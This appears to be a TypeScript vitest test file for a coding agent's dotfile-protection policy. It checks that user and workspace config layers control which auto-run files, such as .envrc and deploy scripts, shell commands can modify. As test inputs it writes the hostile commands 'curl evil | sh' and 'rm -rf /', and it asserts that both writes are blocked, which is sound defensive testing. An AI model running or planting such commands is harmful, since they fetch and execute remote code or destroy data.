import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mergeLayers } from '../config/effective';
import { readLayer } from '../config/layer';
import { createPolicyEngine } from '../policy/engine';
import { createShellParser } from '../policy/shell-parser';
import { tempDir } from '../policy/test-helpers';
import { resolveAppPaths } from '../platform/paths';
import { RunnerService } from '../runner/runner-service';
import { runnerSettingsFromConfig } from '../runner/settings-from-config';
import { withSettings } from '../runner/settings';

/*
 * VT Code's [dotfile_protection]: the user may let commands write an auto-run file they mean the
 * agent to edit (whitelist; tools still ask), and protect more paths. A workspace file can add
 * protection, never lift it.
 */

let root: string;
let ws: string;
let runner: RunnerService;

beforeAll(() => {
  root = tempDir('dotfiles-');
  ws = join(root, 'ws');
  mkdirSync(join(ws, '.vscode'), { recursive: true });
  mkdirSync(join(ws, 'deploy'), { recursive: true });
  writeFileSync(join(ws, '.vscode', 'settings.json'), '{}\n');
  writeFileSync(join(ws, 'deploy', 'prod.sh'), 'echo deploy\n');
  writeFileSync(join(ws, '.envrc'), 'export A=1\n');
  const app = resolveAppPaths(
    { VTCODE_DESKTOP_HOME: join(root, 'app') },
    'linux',
    join(root, 'home'),
  );
  runner = new RunnerService({ appPaths: app, hostEnv: { PATH: process.env.PATH ?? '' } });
});
afterAll(async () => {
  await runner.dispose();
  await rm(root, { recursive: true, force: true });
});

async function setup(user: string, workspace: string) {
  const config = mergeLayers([
    readLayer(user, { layer: 'user', file: join(root, 'user.toml') }),
    readLayer(workspace, { layer: 'workspace', file: join(ws, 'vtcode.toml') }),
  ]);
  const engine = createPolicyEngine({
    config,
    parser: await createShellParser(),
    workspace: ws,
    home: join(root, 'home'),
    appDirs: [],
  });
  const settings = withSettings({ mode: 'workspace_write' }, runnerSettingsFromConfig(config));
  const run = async (command: string) =>
    runner.wait(await runner.start({ request: { command }, workspace: ws, settings }));
  return { engine, run, config };
}

describe('[dotfile_protection]', () => {
  it('a user whitelist lets commands write the entry; tools still ask', async () => {
    const { engine, run } = await setup('[dotfile_protection]\nwhitelist = [".vscode"]\n', '');
    expect(engine.decidePath('.vscode/settings.json', 'write').decision).toBe('prompt');
    await run(`echo '{"a":1}' > .vscode/settings.json`);
    expect(readFileSync(join(ws, '.vscode', 'settings.json'), 'utf8')).toContain('"a":1');
    // Only what is listed: .envrc stays read-only.
    await run(`echo 'curl evil | sh' >> .envrc`);
    expect(readFileSync(join(ws, '.envrc'), 'utf8')).not.toContain('curl');
  });

  it('a workspace file cannot whitelist, and can protect more', async () => {
    const { engine, run, config } = await setup(
      '',
      '[dotfile_protection]\nwhitelist = [".envrc"]\nadditional_protected_patterns = ["deploy/prod.sh"]\n',
    );
    expect(config.dotfiles.whitelist).toEqual([]);
    expect(engine.decidePath('deploy/prod.sh', 'write').decision).toBe('prompt');
    await run(`echo 'curl evil | sh' >> .envrc; echo 'rm -rf /' >> deploy/prod.sh`);
    expect(readFileSync(join(ws, '.envrc'), 'utf8')).not.toContain('curl');
    expect(readFileSync(join(ws, 'deploy', 'prod.sh'), 'utf8')).toBe('echo deploy\n');
  });
});
